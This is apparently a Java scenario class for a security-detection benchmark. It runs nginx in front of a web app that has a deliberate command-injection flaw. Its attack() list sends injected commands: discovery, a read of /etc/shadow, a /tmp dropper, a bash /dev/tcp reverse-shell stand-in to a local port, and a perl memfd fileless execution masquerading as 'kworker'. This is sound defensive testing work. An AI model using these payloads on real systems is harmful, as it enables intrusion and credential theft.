package dev.vigil.bench.scenario;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * nginx (Debian's) in front of vigil-webapp (src/main/c/vigil-webapp.c: /lookup runs
 * getent through a shell, a command-injection flaw), each in a cgroup of its own in one
 * network namespace. Normal: pages, /time, /stats, lookups of a few names, 404s, query
 * strings of varying length. Attack through nginx: discovery, a credential read, a dropped
 * binary, a reverse shell to a listener in the namespace, a program run from a memfd.
 * Periodic job: log rotation (the log moved away, nginx told to reopen it with USR1, the old
 * one compressed). Restart: both services killed and started again.
 */
class WebappScenario implements Scenario {
    static final int NGINX = 8080, APP = 8081, ATTACKER = 4444;
    private Process nginx, app, listener;

    /** The ports of the application's instances nginx balances over. */
    int[] appPorts() { return new int[] {APP}; }

    /** Starts the application (a process in its own cgroup); the container scenario runs it in containers. */
    void startApp(Env env) throws Exception {
        app = env.start(env.cgroup("app"), env.dir().resolve("app.log"), env.dir().resolve("vigil-webapp").toString(), Integer.toString(APP));
    }

    void stopApp(Env env) throws Exception {
        env.kill(env.cgroup("app"));
    }

    boolean appAlive() { return app == null || app.isAlive(); }

    public String name() { return "webapp"; }

    public String description() {
        return "nginx reverse proxy in front of a 4-thread C web application with a command-injection flaw in /lookup";
    }

    public String unavailable() {
        if (!Files.isExecutable(Path.of("/usr/sbin/nginx"))) return "nginx is not installed (apt-get install nginx)";
        if (!Files.isExecutable(Path.of("/usr/bin/perl"))) return "perl is not installed";
        return null;
    }

    public void setUp(Env env) throws Exception {
        env.nativeHelper("vigil-webapp");
        Path conf = Files.writeString(env.dir().resolve("nginx.conf"), """
                worker_processes 2;
                pid %1$s/nginx.pid;
                error_log %1$s/nginx-error.log;
                events { worker_connections 256; }
                http {
                  access_log %1$s/access.log;
                  client_body_temp_path %1$s/body; proxy_temp_path %1$s/proxy; fastcgi_temp_path %1$s/fcgi;
                  uwsgi_temp_path %1$s/uwsgi; scgi_temp_path %1$s/scgi;
                  upstream app { %3$s }
                  server {
                    listen 127.0.0.1:%2$d;
                    location / { proxy_pass http://app; proxy_http_version 1.0; }
                  }
                }
                """.formatted(env.dir(), NGINX, java.util.Arrays.stream(appPorts()).mapToObj(p -> "server 127.0.0.1:" + p + ";")
                .collect(java.util.stream.Collectors.joining(" "))));
        startServices(env);
        // the attacker's listener, inside the namespace but not in the service's cgroups
        listener = env.listener(ATTACKER);
        Thread.sleep(1500);
    }

    private void startServices(Env env) throws Exception {
        startApp(env);
        nginx = env.start(env.cgroup("nginx"), env.dir().resolve("nginx.log"), "/usr/sbin/nginx", "-c", env.dir().resolve("nginx.conf").toString(),
                "-g", "daemon off;");
        for (int i = 0; i < 100; i++) {
            if (Traffic.once(env, NGINX, "GET / HTTP/1.0\r\n\r\n").startsWith("HTTP/1.1 200")) return;
            if (!appAlive() || !nginx.isAlive()) break;
            Thread.sleep(100);
        }
        throw new IllegalStateException("the service did not start: " + Files.readString(env.dir().resolve("nginx.log")));
    }

    public void periodic(Env env, int n) throws Exception {
        Path log = env.dir().resolve("access.log");
        Path old = env.dir().resolve("access.log." + n);
        if (Files.exists(log)) Files.move(log, old);
        Env.exec("kill", "-USR1", Files.readString(env.dir().resolve("nginx.pid")).strip());
        Thread.sleep(200);
        Env.exec("gzip", old.toString());
    }

    public void restart(Env env) throws Exception {
        env.kill(env.cgroup("nginx"));
        stopApp(env);
        startServices(env);
    }

    private static final String[] HOSTS = {"localhost", "example.org", "debian.org", "kernel.org"};

    public Request normal(Random rnd) {
        String path = switch (rnd.nextInt(6)) {
            case 0 -> "/";
            case 1 -> "/time";
            case 2 -> "/stats";
            case 3 -> "/lookup?host=" + HOSTS[rnd.nextInt(HOSTS.length)];
            case 4 -> "/missing/" + Integer.toString(rnd.nextInt(1 << 20), 36);
            default -> "/?q=" + "x".repeat(1 + rnd.nextInt(200));
        };
        return new Request.Raw(NGINX, "GET " + path + " HTTP/1.0\r\nHost: webapp\r\nUser-Agent: scenario/" + rnd.nextInt(5) + "\r\n\r\n");
    }

    private static Step inject(String name, String command) {
        return new Step(name, env -> Traffic.once(env, NGINX, "GET /lookup?host=" + URLEncoder.encode("localhost;" + command, StandardCharsets.UTF_8)
                + " HTTP/1.0\r\nHost: webapp\r\n\r\n"));
    }

    public List<Step> attack() {
        int memfd = dev.vigil.syscall.SyscallTable.host().number("memfd_create").orElse(-1);
        return List.of(
                inject("discovery: id; uname -a", "id;uname -a"),
                inject("credential access: cat /etc/shadow", "cat /etc/shadow"),
                inject("a binary dropped in /tmp and run", "cp /bin/true /tmp/.vigil-sc-dropper;/tmp/.vigil-sc-dropper;rm -f /tmp/.vigil-sc-dropper"),
                inject("a reverse shell: bash connects to the attacker", "bash -c 'echo id > /dev/tcp/127.0.0.1/" + ATTACKER + "'"),
                inject("fileless: a program run from a memfd", "perl -e '$n=\"x\";$f=syscall(" + memfd + ",$n,0);open(I,\"</bin/true\");sysread(I,$b,1e7);"
                        + "open(O,\">&=$f\");syswrite(O,$b);exec{\"/proc/self/fd/$f\"}\"kworker\"'"));
    }

    public void tearDown(Env env) throws IOException, InterruptedException {
        for (Process p : new Process[] {nginx, app, listener}) {
            if (p == null) continue;
            p.destroy();
            if (!p.waitFor(5, TimeUnit.SECONDS)) p.destroyForcibly();
        }
        Files.deleteIfExists(Path.of("/tmp/.vigil-sc-dropper"));
    }
}
